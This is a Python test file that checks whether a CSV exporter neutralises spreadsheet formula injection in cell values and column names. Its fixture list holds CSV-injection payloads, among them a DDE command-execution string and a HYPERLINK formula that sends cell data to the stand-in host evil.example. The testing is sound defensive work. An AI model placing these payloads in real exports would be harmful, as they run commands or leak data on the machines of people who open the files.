"""Rows for files: what a spreadsheet would run is made harmless, figures are what they are."""

from __future__ import annotations

import csv
import datetime
import io

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from stepscope.profiles.rows import csv_header, csv_rows
from stepscope.safe import FORMULA_STARTS, safe_cell
from stepscope.trace.schema import Text

NAMES = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1",
    "＋1",
    "－1",
    "＠1",
]
HARMLESS = ["aten::mm", "a=b", " =1", "'=1", "", "<=", '"=1"', "λ"]


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("dtype", [pl.String, Text, pl.Enum([*NAMES, *HARMLESS])], ids=str)
def test_names(dtype: pl.DataType) -> None:
    frame = pl.DataFrame({"name": pl.Series([*NAMES, *HARMLESS, None], dtype=dtype), "n": range(21)})
    assert [row[0] for row in read(csv_rows(frame))] == [*(f"'{name}" for name in NAMES), *HARMLESS, ""]
    assert [row[0] for row in read(csv_rows(frame, raw=True))] == [*NAMES, *HARMLESS, ""]


def test_figures_are_never_touched() -> None:
    frame = pl.DataFrame(
        {
            "integer": [-5],
            "float": [-0.5],
            "duration": [datetime.timedelta(seconds=-1)],
            "bytes": [b"\xfb\xef\xbe"],
            "list": [[-1, 2]],
            "flag": [True],
        }
    )
    (row,) = read(csv_rows(frame))
    assert row == ["-5", "-0.5", "-PT1S", "++++", "[-1,2]", "true"]


def test_names_of_columns() -> None:
    frame = pl.DataFrame({"=1+1": [1], "'=1+1": [2], 'a,"b': [3]})
    assert read(csv_header(frame)) == [["'=1+1", "'=1+1", 'a,"b']]
    assert read(csv_header(frame, raw=True)) == [frame.columns]


@given(st.lists(st.text(alphabet=st.sampled_from(f"{FORMULA_STARTS}ab ,;\"'"), max_size=6), min_size=1))
def test_columns_and_single_cells_agree(texts: list[str]) -> None:
    frame = pl.DataFrame({"name": texts, "n": range(len(texts))})
    assert [row[0] for row in read(csv_rows(frame))] == [safe_cell(text) for text in texts]
